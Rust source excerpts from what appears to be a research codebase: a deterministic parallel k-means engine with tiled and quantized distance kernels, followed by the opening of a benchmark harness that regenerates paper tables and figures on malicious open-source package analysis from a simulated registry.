            let fresh: Vec<f32> = sums[c * dim..(c + 1) * dim].iter().map(|s| s * inv).collect();
            movement += distance_sq(&fresh, &centroids[c]);
            centroids[c] = fresh;
        }
        reseeded_total += reseeded as u64;
        if movement <= config.tolerance {
            break;
        }
    }

    // Final assignment against the converged centroids; inertia is the
    // chunk-ordered sum of the per-chunk ordered sums.
    let cnorm: Vec<f32> = centroids.iter().map(|c| dot(c, c)).collect();
    let croot: Vec<f32> = cnorm.iter().map(|v| v.sqrt()).collect();
    let passes = run_chunks(n_chunks, threads, |chunk| {
        assign_chunk(
            points, &pnorm, &proot, &centroids, &cnorm, &croot, dim, chunk, chunk_size,
            false,
        )
    });
    let mut inertia = 0.0f32;
    for (chunk, pass) in passes.iter().enumerate() {
        let lo = chunk * chunk_size;
        assignments[lo..lo + pass.assign.len()].copy_from_slice(&pass.assign);
        inertia += pass.inertia;
        pruned_total += pass.pruned;
    }

    obs::counter_add("kmeans.runs", 1);
    obs::counter_add("kmeans.iterations", iterations as u64);
    obs::counter_add("kmeans.pruned_distances", pruned_total);
    obs::counter_add("kmeans.reseeds", reseeded_total);

    KMeansResult {
        centroids,
        assignments,
        inertia,
        iterations,
    }
}
