//! The parallel Lloyd engine behind [`crate::kmeans`] and
//! [`crate::kmeans_warm`].
//!
//! # Determinism contract
//!
//! Results are **bitwise identical at any thread count and any
//! [`crate::Kernel`]**. Four rules make that hold, and every future
//! change must preserve them:
//!
//! 1. **Fixed chunk boundaries.** Points are processed in chunks of
//!    [`DEFAULT_CHUNK`] — a constant, *never* derived from the thread
//!    count — so the partition of the input does not depend on
//!    parallelism. Tile boundaries inside a chunk are constants too.
//! 2. **In-index-order merging.** Per-chunk partial results (cluster
//!    sums, counts, inertia) are merged by ascending chunk index on one
//!    thread. Floating-point addition is not associative; a fixed merge
//!    order fixes the summation tree, so the same bits come out no
//!    matter which worker computed which chunk. Inside a chunk, the
//!    tiled kernel commits per-point results (and scatter-adds sparse
//!    rows into the partial sums) in ascending point order *after* each
//!    point tile completes — the same summation tree as the straight
//!    point loop.
//! 3. **Thread-independent work.** A chunk's pass reads only the input
//!    and the centroids of the previous iteration — never another
//!    chunk's output — so scheduling cannot leak into the arithmetic.
//! 4. **Exact kernels share one summation order.** Every f32 dot is
//!    accumulated in ascending component index (see [`crate::matrix`]);
//!    sparse kernels skip only zero-factor terms. The per-point winner
//!    is the lowest-indexed candidate of minimum distance in every
//!    kernel: the dense and tiled kernels get that from an ascending
//!    scan with a strict `d < best` update, the screened kernel from an
//!    explicit index tie-break (see [`assign_chunk_quant`]).
//!
//! # Candidate pruning
//!
//! Two screens run before an exact distance is paid for, both *provably*
//! lossless:
//!
//! * **Triangle bound** (dense and tiled kernels): `(‖p‖−‖c‖)² ≤
//!   ‖p−c‖²`, checked against the incumbent of the ascending scan — the
//!   seed engine's prune, unchanged. It bounds the *real* distance, so
//!   it is only bitwise-safe applied in the reference scan order, where
//!   a pruned candidate's computed distance is never compared at all.
//! * **Quantized bound** ([`crate::Kernel::TiledQuantized`]): the i8
//!   dot plus its certified error window yields a lower bound on the
//!   f32 distance *as the exact kernel computes it* (quantization
//!   error, f32 summation slack, and expansion-formula rounding all
//!   accounted for). That licenses best-first evaluation: the screened kernel
//!   establishes a tight incumbent from the windows first, then skips a
//!   candidate only when its bound proves it cannot be the
//!   lowest-indexed minimum — so the argmin, and every downstream bit,
//!   is unchanged.

use crate::matrix::{sparse_dot_dense, PointMatrix, Points, QuantMatrix};
use crate::{KMeansConfig, KMeansResult, Kernel};

/// Default points-per-chunk of the assignment pass
/// ([`KMeansConfig::chunk`]). Whatever the value, it must stay
/// independent of the thread count — see the determinism contract above.
pub(crate) const DEFAULT_CHUNK: usize = 1024;

/// Points per tile of the tiled assignment kernel. A tile's points share
/// the transposed centroid block while its touched rows are cache-hot
/// (consecutive points overlap heavily in sparse support).
const POINT_TILE: usize = 32;

/// The assignment i8 screen runs only when the point set is dense enough
/// that the SpMM kernel's per-candidate cost (≈ `density · dim` f32
/// lanes) exceeds a full-width i8 window (≈ `dim` i8 lanes) — measured
/// crossover around one-third density; below it, computing every exact
/// dot is cheaper than screening. The gate is a function of the *data*,
/// never of threads or scheduling, so it cannot break determinism (and
/// the screen is lossless regardless). The *refinement* pair screen in
/// `malgraph-core` has no density gate: a pair's exact dot is a scattered
/// gather, against which the linear i8 window wins at any density.
const MIN_SCREEN_DENSITY: f64 = 0.35;

/// No point screening tiny vectors — the exact dot is a handful of ops.
const MIN_SCREEN_DIM: usize = 32;

/// Per-term rounding slack of the f32 expansion
/// `‖p‖² − 2·p·c + ‖c‖²` (2 f32 additions ≈ 2.1·ε₃₂, inflated).
const EXPANSION_SLACK: f64 = 1.3e-7;

/// Per-chunk output of one assignment pass.
struct ChunkPass {
    /// Assigned cluster per point of the chunk.
    assign: Vec<usize>,
    /// Squared distance of each point to its assigned centroid.
    dist: Vec<f32>,
    /// Per-cluster component sums (`k × dim`, flattened), empty when the
    /// pass only needs assignments.
    sums: Vec<f32>,
    /// Per-cluster member counts, empty when `sums` is.
    counts: Vec<usize>,
    /// Chunk inertia: `dist` summed in point order.
    inertia: f32,
    /// Point tiles processed by the tiled kernels.
    tiles: u64,
    /// Centroid scans skipped by the triangle-inequality bound.
    pruned_exact: u64,
    /// Centroid scans skipped by the certified i8 screen.
    pruned_quantized: u64,
    /// Exact f32 distance evaluations that survived every screen.
    rescored: u64,
}

pub(crate) fn distance_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| {
            let d = x - y;
            d * d
        })
        .sum()
}

/// Resolves the configured thread count: `0` means
/// `available_parallelism`, and no more workers than chunks are ever
/// useful.
fn resolve_threads(requested: usize, n_chunks: usize) -> usize {
    let threads = if requested == 0 {
        std::thread::available_parallelism()
            .map(|v| v.get())
            .unwrap_or(1)
    } else {
        requested
    };
    threads.clamp(1, n_chunks.max(1))
}

/// Runs `f` over every chunk index and returns the outputs **ordered by
/// chunk index**, regardless of which worker produced them. Workers take
/// chunks by stride; with one thread no scope is spawned at all.
fn run_chunks<T, F>(n_chunks: usize, threads: usize, f: F) -> Vec<T>
where
    T: Send,
    F: Fn(usize) -> T + Sync,
{
    if threads <= 1 || n_chunks <= 1 {
        return (0..n_chunks).map(f).collect();
    }
    let workers = threads.min(n_chunks);
    crossbeam::thread::scope(|scope| {
        let f = &f;
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                scope.spawn(move |_| {
                    let mut out = Vec::new();
                    let mut chunk = w;
                    while chunk < n_chunks {
                        out.push((chunk, f(chunk)));
                        chunk += workers;
                    }
                    out
                })
            })
            .collect();
        let mut slots: Vec<Option<T>> = (0..n_chunks).map(|_| None).collect();
        for handle in handles {
            for (chunk, value) in handle.join().expect("kmeans worker must not panic") {
                slots[chunk] = Some(value);
            }
        }
        slots
            .into_iter()
            .map(|slot| slot.expect("every chunk processed exactly once"))
            .collect()
    })
    .expect("crossbeam scope")
}

/// Shared read-only context of one assignment pass.
struct PassCtx<'a> {
    points: &'a Points,
    pnorm: &'a [f32],
    proot: &'a [f32],
    /// Centroids in matrix form, rebuilt each iteration.
    cmat: &'a PointMatrix,
    cnorm: &'a [f32],
    croot: &'a [f32],
    /// Centroids transposed to `dim × k` (rows padded to `ct_stride`):
    /// the SpMM layout of the tiled kernel, where a point's sparse row
    /// scatter-reads contiguous length-`k` slices.
    ct: &'a [f32],
    ct_stride: usize,
    /// `(quantized points, quantized centroids)` when the i8 screen is
    /// active this pass.
    quant: Option<(&'a QuantMatrix, &'a QuantMatrix)>,
    chunk_size: usize,
    with_sums: bool,
    kernel: Kernel,
}

impl PassCtx<'_> {
    fn chunk_bounds(&self, chunk: usize) -> (usize, usize) {
        let lo = chunk * self.chunk_size;
        (lo, (lo + self.chunk_size).min(self.points.n()))
    }
}

/// One assignment pass over chunk `chunk`, dispatched on the kernel.
fn assign_chunk(ctx: &PassCtx<'_>, chunk: usize) -> ChunkPass {
    match ctx.kernel {
        Kernel::DenseScalar => assign_chunk_dense(ctx, chunk),
        Kernel::TiledQuantized if ctx.quant.is_some() => assign_chunk_quant(ctx, chunk),
        Kernel::Tiled | Kernel::TiledQuantized => assign_chunk_tiled(ctx, chunk),
    }
}

/// The seed engine's straight point loop over dense rows — the bitwise
/// reference the tiled kernels are tested against, and the benchmark
/// baseline.
fn assign_chunk_dense(ctx: &PassCtx<'_>, chunk: usize) -> ChunkPass {
    let (lo, hi) = ctx.chunk_bounds(chunk);
    let matrix = ctx.points.matrix();
    let dim = matrix.dim();
    let k = ctx.cmat.n();
    let mut pass = ChunkPass::empty(hi - lo, k, dim, ctx.with_sums);
    for i in lo..hi {
        let point = matrix.row(i);
        let mut best = 0usize;
        let mut best_d = f32::INFINITY;
        for c in 0..k {
            // Triangle-inequality lower bound: skip centroids that
            // cannot beat the incumbent without touching their
            // coordinates.
            let gap = ctx.proot[i] - ctx.croot[c];
            if gap * gap >= best_d {
                pass.pruned_exact += 1;
                continue;
            }
            pass.rescored += 1;
            let d = ctx.pnorm[i] - 2.0 * crate::matrix::dense_dot(point, ctx.cmat.row(c))
                + ctx.cnorm[c];
            if d < best_d {
                best_d = d;
                best = c;
            }
        }
        pass.commit(i, best, best_d, ctx);
    }
    pass
}

/// The cache-tiled SpMM kernel: for each point, every centroid dot is
/// accumulated simultaneously — `acc[c] += v · Cᵀ[i][c]` over the
/// point's nonzeros against the transposed centroid block — so the inner
/// loop is a contiguous length-`k` axpy the vectorizer turns into full
/// SIMD lanes, instead of `k` scattered gathers. Points are processed in
/// tiles of [`POINT_TILE`]; consecutive points share most of their
/// sparse support, keeping the touched `Cᵀ` rows cache-hot across a
/// tile.
///
/// # Bitwise equivalence
///
/// Each `acc[c]` starts at the f32 `Sum` fold identity (`-0.0`) and
/// accumulates the point's terms in ascending component index — the
/// exact summation sequence of [`sparse_dot_dense`], hence of the dense
/// kernel's dot (zero-skip lemma, see [`crate::matrix`]). The candidate
/// scan is ascending `c` with a strict `d < best` update, identical to
/// the dense kernel's; the triangle prune is not replayed here, which is
/// immaterial because pruning only ever skips evaluations, never changes
/// the values the argmin compares.
fn assign_chunk_tiled(ctx: &PassCtx<'_>, chunk: usize) -> ChunkPass {
    let (lo, hi) = ctx.chunk_bounds(chunk);
    let sparse = ctx.points.sparse();
    let dim = ctx.points.dim();
    let k = ctx.cmat.n();
    let stride = ctx.ct_stride;
    let mut pass = ChunkPass::empty(hi - lo, k, dim, ctx.with_sums);
    // One dot accumulator per centroid (padding lanes unused); at the
    // engine's k range this stays L1-resident.
    let mut acc = vec![0.0f32; stride];
    for tile_lo in (lo..hi).step_by(POINT_TILE) {
        let tile_hi = (tile_lo + POINT_TILE).min(hi);
        pass.tiles += 1;
        for i in tile_lo..tile_hi {
            let (si, sv) = sparse.row(i);
            // The fold identity of f32 `Sum` on this toolchain is -0.0;
            // starting there makes every acc[c] bit-identical to
            // `sparse_dot_dense`, not merely zero-sign-equivalent.
            acc.fill(-0.0);
            for (&ix, &v) in si.iter().zip(sv) {
                let row = &ctx.ct[ix as usize * stride..(ix as usize + 1) * stride];
                for (a, r) in acc.iter_mut().zip(row) {
                    *a += v * r;
                }
            }
            pass.rescored += k as u64;
            let mut best = 0usize;
            let mut best_d = f32::INFINITY;
            for (c, &dot) in acc[..k].iter().enumerate() {
                let d = ctx.pnorm[i] - 2.0 * dot + ctx.cnorm[c];
                if d < best_d {
                    best_d = d;
                    best = c;
                }
            }
            pass.commit(i, best, best_d, ctx);
        }
    }
    pass
}

/// The screened kernel: certified i8 windows for all candidates first,
/// exact evaluation of the most promising one to establish a tight
/// incumbent, then an ascending scan in which almost every remaining
/// candidate is pruned against it.
///
/// Evaluating out of ascending order is safe because the scan's result
/// is a pure function of the per-candidate distances, which are computed
/// with exactly the tiled kernel's arithmetic whenever they are computed
/// at all: the final winner is the lowest-indexed candidate of minimum
/// distance, which the explicit tie-break below reproduces. A candidate
/// is skipped only when a certified lower bound on its distance proves
/// it cannot be that winner — strictly worse than the incumbent, or
/// equal-at-best with a higher index (the ascending reference scan keeps
/// the incumbent on ties).
fn assign_chunk_quant(ctx: &PassCtx<'_>, chunk: usize) -> ChunkPass {
    let (lo, hi) = ctx.chunk_bounds(chunk);
    let sparse = ctx.points.sparse();
    let dim = ctx.points.dim();
    let k = ctx.cmat.n();
    let (pq, cq) = ctx.quant.expect("quant kernel dispatched with quant matrices");
    let mut pass = ChunkPass::empty(hi - lo, k, dim, ctx.with_sums);
    let mut lower = vec![0.0f64; k];
    for i in lo..hi {
        if (i - lo) % POINT_TILE == 0 {
            pass.tiles += 1;
        }
        let (si, sv) = sparse.row(i);
        let pn = f64::from(ctx.pnorm[i]);
        // Pass 1: i8 windows for every candidate — a lower bound on each
        // exact distance, and a guess at the winner from the approximate
        // distances.
        let mut guess = 0usize;
        let mut guess_key = f64::INFINITY;
        for (c, slot) in lower.iter_mut().enumerate() {
            let (approx, err) = pq.dot_window(i, cq, c);
            let cn = f64::from(ctx.cnorm[c]);
            let slack = EXPANSION_SLACK * (pn + cn + 2.0 * pq.norm2(i) * cq.norm2(c));
            *slot = pn + cn - 2.0 * (approx + err) - slack;
            let d_approx = pn + cn - 2.0 * approx;
            if d_approx < guess_key {
                guess_key = d_approx;
                guess = c;
            }
        }
        // Pass 2: exact incumbent at the guess (identical arithmetic to
        // the tiled kernel's evaluation of the same candidate).
        pass.rescored += 1;
        let mut best = guess;
        let mut best_d = ctx.pnorm[i] - 2.0 * sparse_dot_dense(si, sv, ctx.cmat.row(guess))
            + ctx.cnorm[guess];
        // Pass 3: ascending scan over the rest, pruning on the certified
        // window only. (The triangle bound is *not* used here: it bounds
        // the real distance, not the f32-computed one, which is only safe
        // when applied in the reference's own scan order. The i8 window's
        // error budget covers the exact kernel's f32 rounding, so it
        // bounds the computed value itself.) The prune lets a candidate
        // through when it could still tie the incumbent with a lower
        // index.
        for (c, &bound) in lower.iter().enumerate().take(k) {
            if c == guess {
                continue;
            }
            if bound > f64::from(best_d) || (c > best && bound >= f64::from(best_d)) {
                pass.pruned_quantized += 1;
                continue;
            }
            pass.rescored += 1;
            let d = ctx.pnorm[i] - 2.0 * sparse_dot_dense(si, sv, ctx.cmat.row(c))
                + ctx.cnorm[c];
            if d < best_d || (d == best_d && c < best) {
                best_d = d;
                best = c;
            }
        }
        pass.commit(i, best, best_d, ctx);
    }
    pass
}

impl ChunkPass {
    fn empty(len: usize, k: usize, dim: usize, with_sums: bool) -> ChunkPass {
        ChunkPass {
            assign: Vec::with_capacity(len),
            dist: Vec::with_capacity(len),
            sums: if with_sums { vec![0.0f32; k * dim] } else { Vec::new() },
            counts: if with_sums { vec![0usize; k] } else { Vec::new() },
            inertia: 0.0,
            tiles: 0,
            pruned_exact: 0,
            pruned_quantized: 0,
            rescored: 0,
        }
    }

    /// Records point `i`'s result and (when accumulating) scatter-adds
    /// its sparse row into the partial sums. Adding only the nonzero
    /// components is bitwise identical to adding the dense row: the
    /// skipped terms are `+0.0`, and a partial sum never holds `-0.0`
    /// (an f32 sum only rounds to `-0.0` when every term is `-0.0`, and
    /// stored sparse values are nonzero), so `s + 0.0 == s` exactly.
    fn commit(&mut self, i: usize, best: usize, best_d: f32, ctx: &PassCtx<'_>) {
        // The expansion can go epsilon-negative for a point sitting on
        // its centroid.
        let best_d = best_d.max(0.0);
        self.assign.push(best);
        self.dist.push(best_d);
        self.inertia += best_d;
        if ctx.with_sums {
            self.counts[best] += 1;
            let dim = ctx.points.dim();
            let row = &mut self.sums[best * dim..(best + 1) * dim];
            let (si, sv) = ctx.points.sparse().row(i);
            for (&idx, &v) in si.iter().zip(sv) {
                row[idx as usize] += v;
            }
        }
    }
}

/// Builds the per-iteration centroid structures (matrix form, norms,
/// optional quantization) and runs one full assignment pass.
#[allow(clippy::too_many_arguments)]
fn run_pass(
    points: &Points,
    pnorm: &[f32],
    proot: &[f32],
    centroids: &[Vec<f32>],
    pquant: Option<&QuantMatrix>,
    config: &KMeansConfig,
    n_chunks: usize,
    threads: usize,
    with_sums: bool,
) -> Vec<ChunkPass> {
    let cmat = PointMatrix::from_rows(centroids);
    let k = cmat.n();
    let cnorm: Vec<f32> = (0..k)
        .map(|c| crate::matrix::dense_dot(cmat.row(c), cmat.row(c)))
        .collect();
    let croot: Vec<f32> = cnorm.iter().map(|v| v.sqrt()).collect();
    let cquant = pquant.map(|_| QuantMatrix::from_rows(points.dim(), centroids));
    // Transposed centroid block for the SpMM kernel: row `i` holds
    // component `i` of every centroid, padded to a whole number of SIMD
    // lanes.
    let ct_stride = k.div_ceil(crate::matrix::ROW_ALIGN) * crate::matrix::ROW_ALIGN;
    let mut ct = vec![0.0f32; points.dim() * ct_stride];
    for c in 0..k {
        for (i, &v) in cmat.row(c).iter().enumerate() {
            ct[i * ct_stride + c] = v;
        }
    }
    let ctx = PassCtx {
        points,
        pnorm,
        proot,
        cmat: &cmat,
        cnorm: &cnorm,
        croot: &croot,
        ct: &ct,
        ct_stride,
        quant: pquant.and_then(|pq| cquant.as_ref().map(|cq| (pq, cq))),
        chunk_size: config.chunk.max(1),
        with_sums,
        kernel: config.kernel,
    };
    run_chunks(n_chunks, threads, |chunk| assign_chunk(&ctx, chunk))
}

/// Lloyd iterations from the given initial centroids.
///
/// Shared by [`crate::kmeans`] (k-means++ init) and
/// [`crate::kmeans_warm`] (previous centroids + seeded extras).
pub(crate) fn lloyd(
    points: &Points,
    mut centroids: Vec<Vec<f32>>,
    config: &KMeansConfig,
) -> KMeansResult {
    let n = points.n();
    let dim = points.dim();
    let k = centroids.len();
    let chunk_size = config.chunk.max(1);
    let n_chunks = n.div_ceil(chunk_size);
    let threads = resolve_threads(config.threads, n_chunks);
    let matrix = points.matrix();
    let pnorm: Vec<f32> = (0..n)
        .map(|i| crate::matrix::dense_dot(matrix.row(i), matrix.row(i)))
        .collect();
    let proot: Vec<f32> = pnorm.iter().map(|v| v.sqrt()).collect();
    let screen = config.kernel == Kernel::TiledQuantized
        && dim >= MIN_SCREEN_DIM
        && points.density() >= MIN_SCREEN_DENSITY;
    let pquant = if screen { Some(points.quant()) } else { None };

    let mut assignments = vec![0usize; n];
    let mut iterations = 0;
    let mut tiles_total = 0u64;
    let mut pruned_exact_total = 0u64;
    let mut pruned_quantized_total = 0u64;
    let mut rescored_total = 0u64;
    let mut reseeded_total = 0u64;
    for iter in 0..config.max_iters {
        iterations = iter + 1;
        let passes = run_pass(
            points, &pnorm, &proot, &centroids, pquant, config, n_chunks, threads, true,
        );
        // Merge partials in chunk-index order (the determinism contract).
        let mut sums = vec![0.0f32; k * dim];
        let mut counts = vec![0usize; k];
        let mut dists = vec![0.0f32; n];
        for (chunk, pass) in passes.iter().enumerate() {
            let lo = chunk * chunk_size;
            assignments[lo..lo + pass.assign.len()].copy_from_slice(&pass.assign);
            dists[lo..lo + pass.dist.len()].copy_from_slice(&pass.dist);
            for (s, v) in sums.iter_mut().zip(&pass.sums) {
                *s += v;
            }
            for (count, v) in counts.iter_mut().zip(&pass.counts) {
                *count += v;
            }
            tiles_total += pass.tiles;
            pruned_exact_total += pass.pruned_exact;
            pruned_quantized_total += pass.pruned_quantized;
            rescored_total += pass.rescored;
        }
        // Update step, serial over k.
        let mut movement = 0.0f32;
        let mut reseed_order: Option<Vec<usize>> = None;
        let mut reseeded = 0usize;
        for c in 0..k {
            if counts[c] == 0 {
                // Empty cluster: re-seed on the farthest point from its
                // centroid; successive empties take successively
                // farther-ranked points so they do not collapse onto one.
                let order = reseed_order.get_or_insert_with(|| {
                    let mut idx: Vec<usize> = (0..n).collect();
                    idx.sort_by(|&a, &b| dists[b].total_cmp(&dists[a]).then(a.cmp(&b)));
                    idx
                });
                let far = order[reseeded.min(order.len() - 1)];
                reseeded += 1;
                let fresh = matrix.row(far).to_vec();
                movement += distance_sq(&fresh, &centroids[c]);
                centroids[c] = fresh;
                continue;
            }
            let inv = 1.0 / counts[c] as f32;
            let fresh: Vec<f32> = sums[c * dim..(c + 1) * dim].iter().map(|s| s * inv).collect();
            movement += distance_sq(&fresh, &centroids[c]);
            centroids[c] = fresh;
        }
        reseeded_total += reseeded as u64;
        if movement <= config.tolerance {
            break;
        }
    }

    // Final assignment against the converged centroids; inertia is the
    // chunk-ordered sum of the per-chunk ordered sums.
    let passes = run_pass(
        points, &pnorm, &proot, &centroids, pquant, config, n_chunks, threads, false,
    );
    let mut inertia = 0.0f32;
    for (chunk, pass) in passes.iter().enumerate() {
        let lo = chunk * chunk_size;
        assignments[lo..lo + pass.assign.len()].copy_from_slice(&pass.assign);
        inertia += pass.inertia;
        tiles_total += pass.tiles;
        pruned_exact_total += pass.pruned_exact;
        pruned_quantized_total += pass.pruned_quantized;
        rescored_total += pass.rescored;
    }

    obs::counter_add("kmeans.runs", 1);
    obs::counter_add("kmeans.iterations", iterations as u64);
    obs::counter_add("kmeans.pruned_distances", pruned_exact_total);
    obs::counter_add("kmeans.reseeds", reseeded_total);
    obs::counter_add("kernel.tiles", tiles_total);
    obs::counter_add("kernel.pruned_exact", pruned_exact_total);
    obs::counter_add("kernel.pruned_quantized", pruned_quantized_total);
    obs::counter_add("kernel.rescored", rescored_total);

    KMeansResult {
        centroids,
        assignments,
        inertia,
        iterations,
    }
}
