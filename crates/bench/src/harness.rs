//! The reproduction harness: regenerates every table and figure of the
//! paper from one simulated world, printing paper-reported values next to
//! measured ones.

use crawler::{collect, CollectedDataset, CollectedPackage, IndexedRegistry};
use graphstore::NodeId;
use malgraph_core::analysis::index::AnalysisIndex;
use malgraph_core::analysis::{campaign, diversity, evolution, overlap, quality, typosquat};
use malgraph_core::{build, BuildOptions, MalGraph, Relation};
use oss_types::{ChangeOp, Ecosystem, PackageId, SimDuration, SourceId};
use registry_sim::{World, WorldConfig};
use std::borrow::Cow;
use std::collections::HashMap;
use std::fmt::Write as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// How the harness provisions its graph and corpus queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum AnalyzeMode {
    /// Serve repeated queries from the lazily built component and corpus
    /// indexes (the default, and the fast path).
    #[default]
    Indexed,
    /// Recompute every query from scratch — the serial reference the
    /// equivalence suite and `analyze_bench` compare the indexed path
    /// against, byte for byte.
    Uncached,
}

/// A fully prepared reproduction context: world → corpus → MALGRAPH.
pub struct Repro {
    /// The simulated world (ground truth; only used for registry queries
    /// and validation).
    pub world: World,
    /// The collected corpus.
    pub dataset: CollectedDataset,
    /// The knowledge graph.
    pub graph: MalGraph,
    /// Wall times of the preparation stages.
    pub timings: StageTimings,
    /// Query-provisioning mode for the analysis sections.
    pub mode: AnalyzeMode,
}

/// Wall times of the pipeline stages, printed by `repro` so performance
/// regressions are visible next to the measurements. Measured with `obs`
/// spans — the harness owns no timing mechanism of its own.
#[derive(Debug, Clone, Copy)]
pub struct StageTimings {
    /// World generation (the simulated ground truth).
    pub world: std::time::Duration,
    /// Corpus collection (feeds, mirror recovery, reports).
    pub collect: std::time::Duration,
    /// MALGRAPH construction, similarity included.
    pub build: std::time::Duration,
    /// The similarity stage alone (embed + K-Means + refinement); a
    /// subset of `build`, broken out because it is the hot path.
    pub similarity: std::time::Duration,
}

/// All experiment identifiers, in paper order.
pub const EXPERIMENTS: [&str; 19] = [
    "table1", "fig2", "fig3", "table2", "table3", "table4", "fig4", "table5", "table6", "fig5",
    "table7", "fig6", "fig7", "fig8", "fig9", "fig10", "fig11", "fig12", "table8",
];

/// The extension sections that run alongside [`EXPERIMENTS`] in a full
/// report, in report order.
pub const EXTENSIONS: [&str; 4] = ["detection", "typosquat", "scaling", "validation"];

impl Repro {
    /// Builds the context at the given corpus scale, in
    /// [`AnalyzeMode::Indexed`] mode.
    pub fn new(seed: u64, scale: f64) -> Repro {
        Repro::with_mode(seed, scale, AnalyzeMode::Indexed)
    }

    /// Builds the context with an explicit [`AnalyzeMode`].
    pub fn with_mode(seed: u64, scale: f64, mode: AnalyzeMode) -> Repro {
        let config = WorldConfig {
            seed,
            ..WorldConfig::default()
        }
        .with_scale(scale);
        obs::enable();
        let span = obs::span!("repro/world");
        let world = World::generate(config);
        let world_elapsed = span.finish();
        let span = obs::span!("repro/collect");
        let dataset = collect(&world);
        let collect_elapsed = span.finish();
        // The similarity stage is a sub-span of build; the delta of its
        // aggregate isolates this build() call even under repeated runs.
        let similar_before = obs::span_total_micros("build/similar");
        let span = obs::span!("repro/build");
        let graph = build(&dataset, &BuildOptions::default());
        let build_elapsed = span.finish();
        let similar_us = obs::span_total_micros("build/similar") - similar_before;
        let timings = StageTimings {
            world: world_elapsed,
            collect: collect_elapsed,
            build: build_elapsed,
            similarity: std::time::Duration::from_micros(similar_us),
        };
        Repro {
            world,
            dataset,
            graph,
            timings,
            mode,
        }
    }

    /// Assembles a context from parts prepared elsewhere — the ingest
    /// equivalence suite and `ingest_bench` wire an incrementally grown
    /// graph (`MalGraph::apply_delta` over corpus deltas) into the same
    /// analysis sections the one-shot context runs, so the two paths can
    /// be compared byte for byte.
    pub fn from_parts(
        world: World,
        dataset: CollectedDataset,
        graph: MalGraph,
        mode: AnalyzeMode,
    ) -> Repro {
        let zero = std::time::Duration::ZERO;
        Repro {
            world,
            dataset,
            graph,
            timings: StageTimings {
                world: zero,
                collect: zero,
                build: zero,
                similarity: zero,
            },
            mode,
        }
    }

    /// Runs one experiment or extension section by id and returns its
    /// report.
    ///
    /// # Panics
    ///
    /// Panics if `id` is not one of [`EXPERIMENTS`] or [`EXTENSIONS`].
    pub fn run(&self, id: &str) -> String {
        let _span = obs::span!("analyze/{id}");
        obs::counter_add("analysis.sections_run", 1);
        match id {
            "table1" => self.table1(),
            "fig2" => self.fig2(),
            "fig3" => self.fig3(),
            "table2" => self.table2(),
            "table3" => self.table3(),
            "table4" => self.table4(),
            "fig4" => self.fig4(),
            "table5" => self.table5(),
            "table6" => self.table6(),
            "fig5" => self.fig5(),
            "table7" => self.table7(),
            "fig6" => self.fig6(),
            "fig7" => self.fig7(),
            "fig8" => self.fig8(),
            "fig9" => self.fig9(),
            "fig10" => self.fig10(),
            "fig11" => self.fig11(),
            "fig12" => self.fig12(),
            "table8" => self.table8(),
            "detection" => self.detection(),
            "typosquat" => self.typosquat(),
            "scaling" => self.scaling(),
            "validation" => self.validation(),
            other => panic!("unknown experiment id {other:?}"),
        }
    }

    /// Runs `ids` on up to `threads` scoped worker threads and returns
    /// the reports in id order.
    ///
    /// Workers claim ids through an atomic cursor and write into
    /// per-slot cells, so assembly order never depends on scheduling;
    /// every section is a pure function of `&self`, and the lazily built
    /// indexes serialise concurrent first queries behind `OnceLock`, so
    /// the output is byte-identical at any thread count (asserted by the
    /// `analysis_equivalence` suite at 1 and 7 threads).
    pub fn run_all(&self, ids: &[&str], threads: usize) -> Vec<String> {
        let threads = threads.clamp(1, ids.len().max(1));
        if threads == 1 {
            return ids.iter().map(|id| self.run(id)).collect();
        }
        obs::counter_add("analysis.parallel_runs", 1);
        let next = AtomicUsize::new(0);
        let slots: Vec<Mutex<Option<String>>> = ids.iter().map(|_| Mutex::new(None)).collect();
        // Workers attach the caller's span stack so every `analyze/{id}`
        // span folds in the same place as in the single-threaded path.
        let ctx = obs::current_context();
        std::thread::scope(|scope| {
            for _ in 0..threads {
                scope.spawn(|| {
                    let _attached = ctx.attach();
                    loop {
                        let i = next.fetch_add(1, Ordering::Relaxed);
                        let Some(id) = ids.get(i) else { break };
                        let section = self.run(id);
                        *slots[i].lock().expect("section slot poisoned") = Some(section);
                    }
                });
            }
        });
        slots
            .into_iter()
            .map(|slot| {
                slot.into_inner()
                    .expect("section slot poisoned")
                    .expect("every claimed id produces a section")
            })
            .collect()
    }

    /// Groups of `relation`, mode-switched: the cached per-label
    /// component index, or a fresh component computation.
    fn groups(&self, relation: Relation) -> Cow<'_, [Vec<NodeId>]> {
        match self.mode {
            AnalyzeMode::Indexed => Cow::Borrowed(self.graph.groups(relation)),
            AnalyzeMode::Uncached => {
                Cow::Owned(self.graph.graph.components(|l| *l == relation))
            }
        }
    }

    /// Release-ordered similar-group sequences, mode-switched.
    fn release_sequences(&self) -> Vec<Vec<&CollectedPackage>> {
        match self.mode {
            AnalyzeMode::Indexed => self
                .graph
                .analysis_index(&self.dataset)
                .release_sequences(&self.graph, &self.dataset),
            AnalyzeMode::Uncached => evolution::release_sequences_in(
                &self.graph.graph.components(|l| *l == Relation::Similar),
                &self.graph,
                &self.dataset,
            ),
        }
    }

    /// Group active periods, mode-switched.
    fn active_periods(&self, relation: Relation) -> Vec<SimDuration> {
        match self.mode {
            AnalyzeMode::Indexed => {
                campaign::active_periods(&self.graph, &self.dataset, relation)
            }
            AnalyzeMode::Uncached => campaign::active_periods_in(
                &self.graph.graph.components(|l| *l == relation),
                &self.graph,
                &AnalysisIndex::new(&self.dataset),
            ),
        }
    }

    /// Campaign timeline of the co-existing group containing `member`,
    /// mode-switched between the CSR snapshot and the raw adjacency BFS.
    fn campaign_timeline(&self, member: &PackageId) -> Vec<campaign::TimelineEntry> {
        match self.mode {
            AnalyzeMode::Indexed => {
                campaign::campaign_timeline(&self.graph, &self.dataset, member)
            }
            AnalyzeMode::Uncached => {
                campaign::campaign_timeline_reference(&self.graph, &self.dataset, member)
            }
        }
    }

    /// Version-lineage download series (Fig. 11), mode-switched between
    /// the O(1)-lookup registry index and per-name registry scans.
    fn lineage_series(&self) -> Vec<Vec<u64>> {
        match self.mode {
            AnalyzeMode::Indexed => evolution::lineage_download_series(
                &self.dataset,
                &IndexedRegistry::new(&self.world),
            ),
            AnalyzeMode::Uncached => {
                evolution::lineage_download_series(&self.dataset, &self.world)
            }
        }
    }

    /// IDN ranking rows (Table VIII), mode-switched the same way; the
